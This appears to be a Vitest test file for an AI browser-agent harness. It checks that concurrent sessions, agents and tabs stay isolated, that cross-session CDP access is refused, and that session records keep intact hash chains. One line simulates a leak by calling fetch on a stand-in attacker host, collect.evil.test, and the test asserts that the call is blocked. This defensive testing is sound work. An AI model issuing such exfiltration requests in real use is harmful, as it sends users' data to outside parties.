/** Sessions beside each other, with several agents and tabs each: none sees, commands or ends what is another's. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { chromium } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { verifyChain } from '../src/record/chain.ts';
import { type Served, serve } from './cli-process.ts';
import { type GuardedSite, startGuardedSite } from './guarded-site.ts';

const ISSUE = 'https://forge.test/johannr-dev/agent/-/issues/30';
let site: GuardedSite;
let sessions: readonly Served[] = [];

beforeAll(async () => {
  site = await startGuardedSite();
  const start = (name: string): Promise<Served> => {
    const task = 'Look after issue 30 on forge.test';
    return serve(['--policy', site.policy, '--task', task, '--yes', '--record', join(site.folder, `${name}.jsonl`)]);
  };
  sessions = await Promise.all([start('one'), start('two')]);
});
afterAll(async () => {
  await Promise.all(sessions.map((each) => each.stop()));
  await site.close();
});

it('two sessions, two agents each, two tabs each, all at once; and one that ends leaves the other as it was', async () => {
  const [one, two] = sessions;
  if (one === undefined || two === undefined) throw new Error('two sessions were started');
  expect(new Set([one.cdp, two.cdp]).size).toBe(2);
  const agents = await Promise.all([one, one, two, two].map(({ cdp }) => chromium.connectOverCDP(cdp)));
  const open = async (at: number, tab: string): Promise<string> => {
    const [context] = agents[at]?.contexts() ?? [];
    const page = await context?.newPage();
    await page?.goto(`${ISSUE}?agent=${at}&tab=${tab}`);
    await page?.evaluate(
      (name) => {
        localStorage.setItem(name, 'mine');
      },
      at < 2 ? 'one' : 'two',
    );
    await page?.evaluate(() => fetch('https://collect.evil.test/leak').catch(() => 'refused'));
    return (await page?.evaluate(() => Object.keys(localStorage).join())) ?? '';
  };
  const stored = await Promise.all([0, 1, 2, 3].flatMap((at) => ['a', 'b'].map((tab) => open(at, tab))));
  expect(stored.map((each) => each.includes('one'))).toEqual([true, true, true, true, false, false, false, false]);
  expect(site.sites.logs.attacker).toEqual([]);
  const stolen = await fetch(`${new URL(two.http).origin}${new URL(one.http).pathname}/json/version`);
  expect(stolen.status).toBe(404);

  await Promise.all(agents.slice(0, 2).map((each) => each.close()));
  expect(await one.stop()).toBe(0);
  expect(await open(2, 'after')).toContain('two');
  for (const { record } of [one, two]) {
    const text = readFileSync(record, 'utf8');
    expect(verifyChain(text).broken).toBeUndefined();
    expect(text).toContain(record === one.record ? 'agent=' : 'collect.evil.test');
  }
  await Promise.all(agents.slice(2).map((each) => each.close()));
});
